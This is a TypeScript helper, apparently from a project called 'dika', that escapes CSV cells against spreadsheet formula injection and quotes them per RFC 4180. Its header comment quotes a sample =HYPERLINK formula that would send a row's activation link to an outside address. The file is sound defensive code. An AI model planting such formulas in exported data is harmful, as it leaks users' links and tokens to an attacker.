/**
 * Cells of the CSV files dika writes for people to open in a spreadsheet (link codes today).
 *
 * A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
 * LibreOffice and Google Sheets: a name like `=HYPERLINK("http://…"&D2,"klik")` would send the
 * row's live activation link elsewhere. As OWASP ("CSV Injection") recommends, such a cell gets a
 * leading single quote, which spreadsheets read as "this is text" and do not show. Legitimate values
 * that start that way (a phone `+62…`, a negative figure `-5`) get it too: telling them apart from
 * an attack is guesswork, and as text they also keep their `+` and leading zeros. A line feed is
 * treated like a carriage return. The cell is then quoted as RFC 4180 has it.
 */
const FORMULA_START = /^[=+\-@\t\r\n]/;

export function csvCell(value: string): string {
  const text = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One record, without its line end. */
export function csvLine(values: readonly string[]): string {
  return values.map(csvCell).join(',');
}
